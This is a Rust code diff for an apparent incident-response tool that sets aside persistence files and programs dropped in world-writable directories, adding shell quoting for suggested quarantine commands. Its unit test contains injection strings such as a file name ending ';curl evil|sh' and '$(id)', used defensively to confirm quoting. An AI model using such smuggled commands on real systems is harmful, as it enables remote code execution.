@@ -1,9 +1,10 @@
-//! Steps about what starts by itself on a machine or lets somebody in.
+//! Steps about what starts by itself on a machine or lets somebody in, and about programs where anybody may write.
 //!
 //! The one idea: set aside by a measure is only a whole file that **surely** came after the beginning, where
 //! no package puts files, and that replaced nothing. Everything else (a line of a file that others need, a
 //! file that was changed, what only may have come) is for a person's hand, with the exact place: a measure
-//! takes whole files away, and half of a file can be what the machine needs.
+//! takes whole files away, and half of a file can be what the machine needs. Where anybody may write that is not
+//! enough: see [`super::dropped`].
 
 use std::collections::{BTreeMap, BTreeSet};
 
@@ -12,6 +13,7 @@ use cordon_model::asset::ClinicalTier;
 use cordon_model::survey::{FirstSeen, Survey, Thing, ThingKind};
 use cordon_model::time::UtcNanos;
 
+use super::dropped::{Intruder, Work};
 use super::{Draft, Drafts, Facts, How, Rank, StepStatus, age, hex, measured, place, status_of};
 
 /// In nanoseconds.
@@ -21,6 +23,7 @@ const MINUTE: i64 = 60_000_000_000;
 pub(super) fn steps(
     facts: &Facts<'_>,
     since: Option<UtcNanos>,
+    intruder: &Intruder,
     known_better: &BTreeSet<FilePath>,
     drafts: &mut Drafts,
     looked_at: &mut Vec<String>,
@@ -48,7 +51,7 @@ pub(super) fn steps(
     for one in &survey.unread {
         drafts.put(Draft {
             key: format!("unread {} {}", one.path, one.why),
-            rank: Rank::Look,
+            rank: if place::is_open_to_all(&one.path) { Rank::OpenToAll } else { Rank::Look },
             what: format!("{}, which could not be read", one.path),
             why: vec!["\"nothing found\" does not speak of it".to_owned()],
             how: How::ByHand {
@@ -62,11 +65,17 @@ pub(super) fn steps(
     let places = Places::of(survey, since, facts.is_whole);
     not_told(facts, survey, since, &places, drafts);
     for (path, things) in &places.by_path {
-        if known_better.contains(*path) {
+        // The program that a finding names has a step of its own.
+        let is_named = things.iter().all(is_dropped) && intruder.is_named(path);
+        if known_better.contains(*path) || is_named {
             continue;
         }
-        of_one_place(facts, path, things, since, &places, drafts);
+        of_one_place(facts, path, things, (since, intruder), &places, drafts);
     }
+}
+
+fn is_dropped(thing: &&Thing) -> bool {
+    thing.kind == ThingKind::DroppedProgram
 }
 
 fn in_words(facts: &Facts<'_>, survey: &Survey) -> String {
@@ -75,8 +84,8 @@ fn in_words(facts: &Facts<'_>, survey: &Survey) -> String {
         count => format!("{count} PLACES COULD NOT BE READ"),
     };
     format!(
-        "{} of {} things that start by themselves or let somebody in, looked at {} ago, known since {}; \
-         {unread}",
+        "{} of {} things that start by themselves, let somebody in, or are programs where anybody may write, \
+         looked at {} ago, known since {}; {unread}",
         survey.things.len(),
         survey.of,
         age(facts.now, survey.taken_at),
@@ -163,7 +172,7 @@ fn of_one_place(
     facts: &Facts<'_>,
     path: &FilePath,
     things: &[&Thing],
-    since: UtcNanos,
+    (since, intruder): (UtcNanos, &Intruder),
     places: &Places<'_>,
     drafts: &mut Drafts,
 ) {
@@ -174,16 +183,25 @@ fn of_one_place(
         drafts.put(aside(facts, path, &there, None));
     } else {
         for thing in there.iter().filter(|thing| concerns(thing, since)) {
-            drafts.put(one(facts, thing, things, since));
+            match by_hand(thing, things, (since, intruder)) {
+                Some(because) if is_dropped(thing) => {
+                    let draft = hand(facts, thing, because.clone());
+                    drafts.work.push(Work::of(facts, thing, because, draft));
+                }
+                Some(because) => drafts.put(hand(facts, thing, because)),
+                None => drafts.put(one(facts, thing, things, (since, intruder))),
+            }
             still_runs(facts, thing, since, drafts);
         }
     }
     for gone in things.iter().filter(|thing| thing.gone_at.is_some() && concerns(thing, since)) {
         // A file that has another content now is told once, by that.
         let is_changed = gone.line.is_none() && there.iter().any(|thing| thing.line.is_none());
-        // A job that ran is gone by itself.
-        let has_run = gone.kind == ThingKind::AtJob && !gone.may_have_come_after(since);
-        if !is_changed && !has_run {
+        // A job that ran is gone by itself, as is what work put into `/tmp`.
+        let ends_by_itself = matches!(gone.kind, ThingKind::AtJob | ThingKind::DroppedProgram);
+        let has_run = ends_by_itself && !gone.may_have_come_after(since);
+        let is_work = is_dropped(gone) && !intruder.tells_of_gone(facts, gone);
+        if !is_changed && !has_run && !is_work {
             drafts.put(gone_thing(gone, since));
         }
     }
@@ -195,7 +213,11 @@ fn is_line(thing: &Thing) -> bool {
 }
 
 /// Why one thing is for a person's hand; `None`: a measure deals with it.
-fn by_hand(thing: &Thing, beside: &[&Thing], since: UtcNanos) -> Option<String> {
+fn by_hand(
+    thing: &Thing,
+    beside: &[&Thing],
+    (since, intruder): (UtcNanos, &Intruder),
+) -> Option<String> {
     if !thing.came_after(since) {
         return Some("it only may have come then: it may have been there before".to_owned());
     }
@@ -217,6 +239,7 @@ fn by_hand(thing: &Thing, beside: &[&Thing], since: UtcNanos) -> Option<String> 
                 "it was there before with another content, which has to be put back".to_owned(),
             );
         }
+        ThingKind::DroppedProgram => return intruder.by_hand(thing),
         _ => {}
     }
     place::file_by_hand(&thing.path).map(str::to_owned)
@@ -269,12 +292,19 @@ fn is_of_account(action: &Action, name: &str) -> bool {
     matches!(action, Action::DisableAccount(target) if target.name == name)
 }
 
-fn one(facts: &Facts<'_>, thing: &Thing, beside: &[&Thing], since: UtcNanos) -> Draft {
-    if let Some(because) = by_hand(thing, beside, since) {
-        return hand(facts, thing, because);
-    }
+/// What a measure deals with.
+fn one(
+    facts: &Facts<'_>,
+    thing: &Thing,
+    beside: &[&Thing],
+    (since, intruder): (UtcNanos, &Intruder),
+) -> Draft {
     if thing.kind != ThingKind::Account {
-        return aside(facts, &thing.path, &[thing], Some(Sha256Digest(thing.sha256)));
+        let mut draft = aside(facts, &thing.path, &[thing], Some(Sha256Digest(thing.sha256)));
+        if is_dropped(&thing) {
+            draft.why.extend(intruder.told_by(thing));
+        }
+        return draft;
     }
     let clinical = facts.tier.unwrap_or(ClinicalTier::WHEN_UNKNOWN).is_clinical();
     let target = account_of(thing).map(|(name, user)| {
@@ -340,35 +370,55 @@ fn aside(
         true => "; systemd forgets it at the next `systemctl daemon-reload` or start",
         false => "",
     };
+    let (rank, stops) = match things.iter().all(is_dropped) {
+        true => (Rank::Dropped, "it can't be started from there any more"),
+        false => (Rank::Persistence, "nothing starts by it any more"),
+    };
     Draft {
         key: format!("file {path} {}", digests.join(" ")),
-        rank: Rank::Persistence,
+        rank,
         what: format!("{path} ({})", things.first().map_or("", |thing| thing.kind.as_str())),
         why: things.iter().map(|thing| why(thing)).collect(),
         how: How::Order {
             action: Action::Quarantine(FileTarget { path: path.clone(), sha256 }),
             does: format!(
-                "moves {path} into the machine's vault, encrypted: nothing starts by it any more{reload}. \
-                 `cordon measure undo` puts it back exactly"
+                "moves {path} into the machine's vault, encrypted: {stops}{reload}. `cordon measure undo` puts it back \
+                 exactly"
             ),
         },
         status,
     }
 }
 
+/// A word of a command as a shell takes it, whatever is in it: a file's name is its maker's, and this command is typed by
+/// people who may do much.
+fn typed(word: &str) -> String {
+    let is_harmless = |c: char| c.is_ascii_alphanumeric() || "/._+@:=,-".contains(c);
+    if !word.is_empty() && word.chars().all(is_harmless) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
 fn hand(facts: &Facts<'_>, thing: &Thing, because: String) -> Draft {
     let path = &thing.path;
+    let set_aside = || {
+        let (machine, path) = (typed(facts.name), typed(&path.to_string()));
+        format!("cordon measure quarantine {machine} {path}")
+    };
     let todo = match &thing.line {
         Some(line) => format!("if it is not yours, remove this line from {path}: {}", plain(line)),
+        None if is_dropped(&thing) => {
+            format!("ask whose work {path} is; if it is nobody's, set it aside (`{}`)", set_aside())
+        }
         None => format!(
-            "look at {path}; if it is not yours, take it away or put the old one back (a whole file: `cordon \
-             measure quarantine {} {path}`)",
-            facts.name
+            "look at {path}; if it is not yours, take it away or put the old one back (a whole file: `{}`)",
+            set_aside()
         ),
     };
     Draft {
         key: key(thing),
-        rank: Rank::ByHand,
+        rank: if is_dropped(&thing) { Rank::Work } else { Rank::ByHand },
         what: what(thing),
         why: vec![why(thing)],
         how: How::ByHand { todo, because },
@@ -434,4 +484,23 @@ fn why(thing: &Thing) -> String {
 fn plain(line: &str) -> String {
     let shown: String = line.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect();
     format!("\u{201c}{shown}\u{201d}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_in_a_command_is_one_word_of_it_and_nothing_else() {
+        let cases = [
+            ("/tmp/x", "/tmp/x"),
+            ("/tmp/x;curl evil|sh", "'/tmp/x;curl evil|sh'"),
+            ("/tmp/$(id)", "'/tmp/$(id)'"),
+            ("/tmp/it's `id`", r"'/tmp/it'\''s `id`'"),
+            ("", "''"),
+        ];
+        for (name, word) in cases {
+            assert_eq!(typed(name), word);
+        }
+    }
 }
